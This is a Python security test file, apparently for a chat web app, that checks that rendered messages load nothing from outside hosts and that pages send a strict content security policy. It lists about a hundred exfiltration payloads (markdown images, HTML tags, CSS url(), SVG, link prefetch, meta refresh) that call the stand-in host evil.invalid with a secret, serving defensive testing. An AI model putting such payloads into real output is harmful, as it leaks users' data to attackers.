"""Row 33: a picture, a style or a name that would carry a secret out is not asked for.

There is no chat platform yet that shows previews of links; whoever adds one adds its half here.
"""

from __future__ import annotations

from tests.security.door import Browser, Served
from tests.security.face import face

_EVIL = "http://evil.invalid/?q=SECRET"
_PICTURES = [
    f"![x]({_EVIL})",
    f"![]({_EVIL})",
    f"![x](<{_EVIL}>)",
    f'![x]({_EVIL} "title")',
    f"![x](  {_EVIL}  )",
    f"![x][1]\n\n[1]: {_EVIL}",
    f"![x]\n\n[x]: {_EVIL}",
    f"![x][]\n\n[x]: <{_EVIL}> 'title'",
    f"![X][ReF]\n\n[rEf]: {_EVIL}",
    f"[![x]({_EVIL})]({_EVIL})",
    f"[![x][1]][1]\n\n[1]: {_EVIL}",
    f"![![x]({_EVIL})]({_EVIL})",
    "![x](//evil.invalid/?q=SECRET)",
    "![x](\\\\evil.invalid\\?q=SECRET)",
    "![x](HTTP://evil.invalid/?q=SECRET)",
    "![x](https:evil.invalid/?q=SECRET)",
    "![x](ftp://evil.invalid/SECRET)",
    f"![x](blob:{_EVIL})",
    f"![x](data:image/svg+xml,<svg><image href='{_EVIL}'/></svg>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](http://SECRET.evil.invalid/a.png)",
    "![x](&#104;ttp://evil.invalid/?q=SECRET)",
    f"| a |\n|---|\n| ![x]({_EVIL}) |",
    f"- [ ] ![x]({_EVIL})",
    f"# ![x]({_EVIL})",
    f"> ![x]({_EVIL})",
    f"1. ![x]({_EVIL})",
    f"**![x]({_EVIL})**",
    f"~~![x]({_EVIL})~~",
    f"`![x]({_EVIL})`",
    f"<img src='{_EVIL}'>",
    f"<img src={_EVIL}>",
    f"<IMG SRC='{_EVIL}'>",
    f"<img/src='{_EVIL}'/>",
    f"<img srcset='{_EVIL} 1x'>",
    f"<img loading=lazy src='{_EVIL}'>",
    f"<image src='{_EVIL}'>",
    f"<picture><source srcset='{_EVIL}'><img></picture>",
    f"<svg><image href='{_EVIL}'/></svg>",
    f"<svg><image xlink:href='{_EVIL}'/></svg>",
    f"<svg><use href='{_EVIL}#x'/></svg>",
    f"<svg><feImage href='{_EVIL}'/></svg>",
    f"<svg><style>@import '{_EVIL}';</style></svg>",
    f"<math href='{_EVIL}'>x</math>",
    f"<style>@import url('{_EVIL}');</style>",
    f"<style>*{{background:url('{_EVIL}')}}</style>",
    f"<style>@font-face{{font-family:x;src:url('{_EVIL}')}}*{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:url('{_EVIL}')}}</style>",
    f"<link rel=stylesheet href='{_EVIL}'>",
    f"<link rel=preload as=image href='{_EVIL}'>",
    f"<link rel=prefetch href='{_EVIL}'>",
    "<link rel=dns-prefetch href='//SECRET.evil.invalid'>",
    "<link rel=preconnect href='http://SECRET.evil.invalid'>",
    f"<link rel=icon href='{_EVIL}'>",
    f"<link rel=manifest href='{_EVIL}'>",
    f"<link rel=modulepreload href='{_EVIL}'>",
    f"<p style='background:url({_EVIL})'>x</p>",
    f"<p style=\"background-image:image-set('{_EVIL}' 1x)\">x</p>",
    f"<div style='list-style-image:url({_EVIL})'><li>x</li></div>",
    f"<div style='cursor:url({_EVIL}),auto'>x</div>",
    f"<div style='content:url({_EVIL})'>x</div>",
    f"<td background='{_EVIL}'>x</td>",
    f"<table background='{_EVIL}'><tr><td>x</table>",
    f"<body background='{_EVIL}'>",
    f"<video poster='{_EVIL}'></video>",
    f"<video src='{_EVIL}' autoplay></video>",
    f"<audio src='{_EVIL}' autoplay></audio>",
    f"<video><track default src='{_EVIL}'></video>",
    f"<object data='{_EVIL}'></object>",
    f"<embed src='{_EVIL}'>",
    f"<iframe src='{_EVIL}'></iframe>",
    f"<iframe srcdoc=\"<img src='{_EVIL}'>\"></iframe>",
    f"<frameset><frame src='{_EVIL}'></frameset>",
    f"<input type=image src='{_EVIL}'>",
    f"<script src='{_EVIL}'></script>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<base href='{_EVIL}'>![x](a.png)",
    f"<a href='{_EVIL}' ping='{_EVIL}'>x</a>",
    f"<form action='{_EVIL}'><input name=q value=SECRET autofocus></form>",
    f"<blockquote cite='{_EVIL}'>x</blockquote>",
    f"<portal src='{_EVIL}'></portal>",
    f"<applet archive='{_EVIL}'></applet>",
    f"<noscript><img src='{_EVIL}'></noscript>",
    f"<template shadowrootmode=open><img src='{_EVIL}'></template>",
    f"<xml src='{_EVIL}'></xml>",
    f"```html\n<img src='{_EVIL}'>\n```",
    f"```mermaid\ngraph LR; A[<img src='{_EVIL}'>]\n```",
    f"```svg\n<svg><image href='{_EVIL}'/></svg>\n```",
    f"$$\\includegraphics{{{_EVIL}}}$$",
    f"<!--[if IE]><img src='{_EVIL}'><![endif]-->",
    f"<![CDATA[<img src='{_EVIL}'>]]>",
    f"<?xml-stylesheet href='{_EVIL}'?>",
    f'{{{{< figure src="{_EVIL}" >}}}}',
    f"![[{_EVIL}]]",
    f"![x]({_EVIL}){{width=1}}",
    f"[x]: {_EVIL}\n\n![x] ![x] ![x]",
]


def test_no_text_calls_home(served: Served) -> None:
    with face(served) as page:
        assert page.faults(_PICTURES) == []


def test_text_that_streams_in_calls_home_neither(served: Served) -> None:
    """Half a picture is drawn while the rest is on its way."""
    cut = [text[:length] for text in _PICTURES[:12] for length in range(3, len(text), 3)]
    with face(served) as page:
        assert page.faults(cut) == []


def test_every_page_says_that_nothing_is_loaded_from_elsewhere(browser: Browser) -> None:
    browser.sign_in()
    browser.post("/api/chat", {"conversation": "c", "text": _PICTURES[0]})
    for path in (
        "/",
        "/c/c",
        "/overview",
        "/channels",
        "/jobs",
        "/usage",
        "/login",
        "/nothing",
        "/c/nothing",
    ):
        answer = browser.client.get(path, headers={"Accept": "text/html"})
        assert answer.headers["content-type"].startswith("text/html"), path
        policy = dict(
            part.strip().split(" ", 1)
            for part in answer.headers["content-security-policy"].split(";")
        )
        assert policy["default-src"] == "'none'", path
        assert set(" ".join(policy.values()).split()) <= {"'none'", "'self'", "data:"}, path
        assert policy["connect-src"] == policy["form-action"] == "'self'", path
        assert policy["base-uri"] == policy["frame-ancestors"] == "'none'", path
        # A name in a link is asked for before anybody presses it.
        assert answer.headers["x-dns-prefetch-control"] == "off", path
        assert answer.headers["referrer-policy"] == "no-referrer", path
